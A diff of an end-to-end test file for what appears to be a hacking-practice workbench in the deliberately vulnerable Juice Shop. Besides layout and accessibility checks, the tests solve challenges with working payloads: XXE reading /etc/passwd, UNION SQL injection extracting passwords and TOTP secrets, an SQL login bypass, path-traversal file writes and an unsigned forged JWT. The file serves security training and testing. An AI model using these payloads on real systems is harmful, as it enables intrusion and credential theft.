@@ -1,25 +1,25 @@
 import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { addToBasket, JIM, logIn } from './testing/customers.ts'
+import { type Learner, openStage, type Stage } from './testing/stage.ts'
 import {
-  barriers,
-  bench,
-  decoded,
-  decodedAgain,
+  accessibilityViolations,
+  closeWorkbench,
+  decodeNextStep,
+  decodeStep,
   JSON_TYPE,
-  lookAt,
-  putAway,
-  sendTyped,
-  take,
-} from './benches.ts'
-import { addToBasket, JIM, logIn } from './customers.ts'
-import { type Learner, type Stage, setStage } from './support.ts'
+  openFile,
+  openTool,
+  sendInRepeater,
+  workbenchDrawer,
+} from './testing/workbench.ts'
 
 const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true, reducedMotion: 'reduce' } as const
 const DESK = { viewport: { width: 1280, height: 900 }, reducedMotion: 'reduce' } as const
 
 let stage: Stage
 beforeAll(async () => {
-  stage = await setStage()
+  stage = await openStage()
 })
 afterAll(() => stage.close())
 
@@ -36,37 +36,37 @@ async function visitor(shop: string, look: Parameters<Stage['learner']>[1]): Pro
 
 describe('the workbench', () => {
   it('makes room beside the shop, takes the focus along and brings it back', async () => {
-    const { page, context, troubles } = await visitor('bench', DESK)
+    const { page, context, problems } = await visitor('bench', DESK)
     await page.locator('#searchQuery, #homeButton').first().focus()
     const before = await page.evaluate(() => document.activeElement?.id)
     await page.keyboard.press('Control+j')
-    await bench(page).waitFor()
+    await workbenchDrawer(page).waitFor()
     await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('role'))).toBe('tab')
-    const left = await bench(page).evaluate((drawer) => drawer.getBoundingClientRect().left)
+    const left = await workbenchDrawer(page).evaluate((drawer) => drawer.getBoundingClientRect().left)
     const main = await page.locator('main').evaluate((element) => element.getBoundingClientRect().right)
     expect(main).toBeLessThanOrEqual(left)
     expect(await overflow(page)).toBe(0)
     await page.keyboard.press('Escape')
-    await bench(page).waitFor({ state: 'hidden' })
+    await workbenchDrawer(page).waitFor({ state: 'hidden' })
     expect(await page.evaluate(() => document.activeElement?.id)).toBe(before)
-    expect(troubles).toEqual([])
+    expect(problems).toEqual([])
     await context.close()
   })
 
   it('remembers its tool and its width, and is there again after a reload', async () => {
     const { page, context } = await visitor('memory', DESK)
     await page.locator('#workbenchButton').click()
-    const tabs = bench(page).getByRole('tab')
+    const tabs = workbenchDrawer(page).getByRole('tab')
     await tabs.first().waitFor()
     await tabs.last().click()
     const name = await tabs.last().textContent()
-    const handle = bench(page).getByRole('separator')
+    const handle = workbenchDrawer(page).getByRole('separator')
     const width = Number(await handle.getAttribute('aria-valuenow'))
     await handle.focus()
     await page.keyboard.press('ArrowLeft')
     await page.reload()
-    await bench(page).waitFor()
-    expect(await bench(page).getByRole('tab', { selected: true }).textContent()).toBe(name)
+    await workbenchDrawer(page).waitFor()
+    expect(await workbenchDrawer(page).getByRole('tab', { selected: true }).textContent()).toBe(name)
     expect(await handle.getAttribute('aria-valuenow')).toBe(String(width + 20))
     await context.close()
   })
@@ -76,7 +76,7 @@ describe('the workbench', () => {
     await page.keyboard.press('Control+k')
     await page.getByRole('dialog', { name: 'Jump anywhere' }).getByRole('combobox').fill('decoder')
     await page.keyboard.press('Enter')
-    const selected = bench(page).getByRole('tab', { selected: true })
+    const selected = workbenchDrawer(page).getByRole('tab', { selected: true })
     await expect.poll(() => selected.textContent()).toBe('Decoder')
     await selected.press('ArrowRight')
     await expect.poll(() => selected.textContent()).toBe('Files')
@@ -95,11 +95,11 @@ describe('the workbench', () => {
       .getByRole('button', { name: /Workbench/ })
       .tap()
     for (const tool of ['Decoder', 'Files']) {
-      await bench(page).getByRole('tab', { name: tool }).tap()
-      const panel = bench(page).getByRole('tabpanel', { name: tool })
+      await workbenchDrawer(page).getByRole('tab', { name: tool }).tap()
+      const panel = workbenchDrawer(page).getByRole('tabpanel', { name: tool })
       await panel.getByText('With the real tools:').waitFor()
       expect(await panel.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0)
-      expect(await barriers(page)).toEqual([])
+      expect(await accessibilityViolations(page)).toEqual([])
     }
     await context.close()
   })
@@ -108,9 +108,12 @@ describe('the workbench', () => {
     const { page, context } = await visitor('day', DESK)
     await page.keyboard.press('Control+j')
     for (const tool of ['Decoder', 'Files']) {
-      await bench(page).getByRole('tab', { name: tool }).click()
-      await bench(page).getByRole('tabpanel', { name: tool }).getByText('With the real tools:').waitFor()
-      expect(await barriers(page)).toEqual([])
+      await workbenchDrawer(page).getByRole('tab', { name: tool }).click()
+      await workbenchDrawer(page)
+        .getByRole('tabpanel', { name: tool })
+        .getByText('With the real tools:')
+        .waitFor()
+      expect(await accessibilityViolations(page)).toEqual([])
     }
     await context.close()
   })
@@ -124,7 +127,7 @@ describe('with the workbench alone, on a phone', () => {
     await jim.open('/#/payment/shop')
     const month = new Date().toLocaleString('en-US', { month: 'short' }).toUpperCase()
     const year = String(new Date().getFullYear()).slice(2)
-    const coupon = await decoded(jim.page, `${month}${year}-80`, 'to-z85')
+    const coupon = await decodeStep(jim.page, `${month}${year}-80`, 'to-z85')
     await jim.page.locator('#collapseCouponElement').tap()
     await jim.page.fill('#coupon', coupon)
     await jim.page.locator('#applyCouponButton').tap()
@@ -140,16 +143,16 @@ describe('with the workbench alone, on a phone', () => {
     const jim = await stage.learner('token', PHONE)
     await logIn(jim, JIM)
     const token = await jim.page.evaluate(() => localStorage.getItem('token') ?? '')
-    const inside = await decoded(jim.page, token, 'from-jwt')
+    const inside = await decodeStep(jim.page, token, 'from-jwt')
     expect(inside).toContain('"email": "jim@juice-sh.op"')
-    const forged = await decodedAgain(
+    const forged = await decodeNextStep(
       jim.page,
       inside.replace('jim@juice-sh.op', 'jwtn3d@juice-sh.op'),
       'to-jwt',
       'none',
     )
     expect(forged).toMatch(/^[\w-]+\.[\w-]+\.$/)
-    await sendTyped(jim.page, 'GET /rest/basket/1 HTTP/1.1', `Authorization: Bearer ${forged}`, '', '')
+    await sendInRepeater(jim.page, 'GET /rest/basket/1 HTTP/1.1', `Authorization: Bearer ${forged}`, '', '')
     await expect.poll(isSolved('token', 'jwtUnsignedChallenge')).toBe(true)
     await jim.context.close()
   })
@@ -158,12 +161,12 @@ describe('with the workbench alone, on a phone', () => {
     const jim = await stage.learner('slip', PHONE)
     await logIn(jim, JIM)
     await jim.open('/#/complain')
-    const files = await take(jim.page, 'Files')
+    const files = await openTool(jim.page, 'Files')
     await files.getByLabel('Name, written exactly like this').fill('../../ftp/legal.md')
     await files.getByLabel('Content').fill('Whoever reads this owes me a juice.')
     await files.getByRole('button', { name: /^Put into:/ }).tap()
     await files.getByRole('status').filter({ hasText: 'archive.zip' }).waitFor()
-    await putAway(jim.page)
+    await closeWorkbench(jim.page)
     await jim.page.fill('#complaintMessage', 'See the archive.')
     await jim.page.locator('#submitButton').tap()
     await expect.poll(isSolved('slip', 'fileWriteChallenge'), { timeout: 40_000 }).toBe(true)
@@ -174,14 +177,14 @@ describe('with the workbench alone, on a phone', () => {
     const jim = await stage.learner('xxe', PHONE)
     await logIn(jim, JIM)
     await jim.open('/#/complain')
-    const files = await take(jim.page, 'Files')
+    const files = await openTool(jim.page, 'Files')
     await files.getByRole('button', { name: 'XML', exact: true }).tap()
     await files
       .getByLabel('Content')
       .fill('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
     await files.getByRole('button', { name: /^Put into:/ }).tap()
     await files.getByRole('status').filter({ hasText: 'data.xml' }).waitFor()
-    await putAway(jim.page)
+    await closeWorkbench(jim.page)
     await jim.page.fill('#complaintMessage', 'See the file.')
     await jim.page.locator('#submitButton').tap()
     await expect.poll(isSolved('xxe', 'xxeFileDisclosureChallenge'), { timeout: 40_000 }).toBe(true)
@@ -190,7 +193,7 @@ describe('with the workbench alone, on a phone', () => {
 
   it('a picture tells where it was taken, and the map what that place is called', async () => {
     const { page, context, open } = await visitor('geo', PHONE)
-    const files = await lookAt(page, '/assets/public/images/uploads/favorite-hiking-place.png')
+    const files = await openFile(page, '/assets/public/images/uploads/favorite-hiking-place.png')
     const map = await files.getByRole('link', { name: 'Show on the map' }).getAttribute('href')
     await open(`/${map?.replace('./', '')}`)
     await page.getByText('Daniel Boone National Forest').first().waitFor()
@@ -206,17 +209,17 @@ describe('with the workbench alone, on a phone', () => {
 
   it('the lowest bits of a picture show who hides in it', async () => {
     const { page, context } = await visitor('bits', PHONE)
-    const files = await lookAt(page, '/assets/public/images/carousel/5.png')
+    const files = await openFile(page, '/assets/public/images/carousel/5.png')
     await files.getByRole('button', { name: 'Lowest bits' }).tap()
     const canvas = files.getByRole('img', { name: /^The lowest bit/ })
     // Where nothing is hidden it is noise: neighbours agree every other time. A picture has areas.
     await expect.poll(() => canvas.evaluate(neighboursThatAgree)).toBeGreaterThan(0.55)
-    await putAway(page)
+    await closeWorkbench(page)
     // Who looks at it knows who that is, and tells the shop.
-    const { text } = await sendTyped(page, 'GET /rest/captcha/ HTTP/1.1', '', '')
+    const { text } = await sendInRepeater(page, 'GET /rest/captcha/ HTTP/1.1', '', '')
     const { captchaId, answer: captcha } = JSON.parse(text)
     const feedback = { captchaId, captcha, comment: 'Pickle Rick sits behind one of the ladies!', rating: 3 }
-    await sendTyped(page, 'POST /api/Feedbacks/ HTTP/1.1', JSON_TYPE, '', JSON.stringify(feedback))
+    await sendInRepeater(page, 'POST /api/Feedbacks/ HTTP/1.1', JSON_TYPE, '', JSON.stringify(feedback))
     await expect.poll(isSolved('bits', 'hiddenImageChallenge')).toBe(true)
     await context.close()
   })
@@ -224,7 +227,7 @@ describe('with the workbench alone, on a phone', () => {
   it('a secret out of the database gives the second factor', async () => {
     const { page, context, open } = await visitor('totp', PHONE)
     const union = "')) UNION SELECT null,id,email,password,totpsecret,null,null,null,null FROM users--"
-    const files = await lookAt(page, `/rest/products/search?q=${encodeURIComponent(union)}`)
+    const files = await openFile(page, `/rest/products/search?q=${encodeURIComponent(union)}`)
     const found =
       (await files
         .getByLabel(/^search\?q=/)
@@ -232,13 +235,13 @@ describe('with the workbench alone, on a phone', () => {
         .textContent()) ?? ''
     const secret = /wurstbrot[^{}]*?"([A-Z2-7]{32})"/.exec(found)?.[1] ?? ''
     expect(secret).not.toBe('')
-    await putAway(page)
+    await closeWorkbench(page)
     await open('/#/login')
     await page.fill('#email', "wurstbrot@juice-sh.op'--")
     await page.fill('#password', 'x')
     await page.locator('#loginButton').tap()
     await page.waitForURL(/2fa\/enter/)
-    const code = await decoded(page, secret, 'totp')
+    const code = await decodeStep(page, secret, 'totp')
     await page.fill('#totpToken', code)
     await page.locator('#totpSubmitButton').tap()
     await expect.poll(isSolved('totp', 'twoFactorAuthUnsafeSecretStorageChallenge')).toBe(true)
@@ -248,20 +251,20 @@ describe('with the workbench alone, on a phone', () => {
   it('a continue code is made of a number that is on no board', async () => {
     const { page, context } = await visitor('code', PHONE)
     const salted = { Salt: 'this is my salt', 'Least length': '60' }
-    const code = await decoded(page, '999', 'to-hashids', salted)
-    await sendTyped(page, `PUT /rest/continue-code/apply/${code} HTTP/1.1`, '', '')
+    const code = await decodeStep(page, '999', 'to-hashids', salted)
+    await sendInRepeater(page, `PUT /rest/continue-code/apply/${code} HTTP/1.1`, '', '')
     await expect.poll(isSolved('code', 'continueCodeChallenge')).toBe(true)
     await context.close()
   })
 
   it('a phrase that somebody let slip opens her wallet', async () => {
     const { page, context, open } = await visitor('phrase', PHONE)
-    const files = await lookAt(page, '/api/Feedbacks')
+    const files = await openFile(page, '/api/Feedbacks')
     const found = (await files.getByLabel('Feedbacks', { exact: true }).first().textContent()) ?? ''
     const phrase = /\b[a-z]+(?: [a-z]+){11}(?=\\?")/.exec(found)?.[0] ?? ''
     expect(phrase).not.toBe('')
-    await putAway(page)
-    const account = await decoded(page, phrase, 'phrase')
+    await closeWorkbench(page)
+    const account = await decodeStep(page, phrase, 'phrase')
     await open('/#/juicy-nft')
     await page.fill('#privateKey', /"privateKey": "(\w+)"/.exec(account)?.[1] ?? '')
     await page.locator('#privateKey').press('Enter')
@@ -270,8 +273,8 @@ describe('with the workbench alone, on a phone', () => {
   })
 
   it('says in words what it cannot do, and goes on', async () => {
-    const { page, context, troubles } = await visitor('wrong', PHONE)
-    const files = await take(page, 'Files')
+    const { page, context, problems } = await visitor('wrong', PHONE)
+    const files = await openTool(page, 'Files')
     await files.getByRole('button', { name: 'Look into a file' }).tap()
     await files.locator('input[type=file]').setInputFiles({
       name: 'picture.png',
@@ -291,7 +294,7 @@ describe('with the workbench alone, on a phone', () => {
     await files.getByLabel('Address in the shop').fill('https://example.org/')
     await files.getByRole('button', { name: 'Fetch' }).tap()
     await files.getByText('Only files of this shop').waitFor()
-    expect(troubles).toEqual([])
+    expect(problems).toEqual([])
     await context.close()
   })
 })
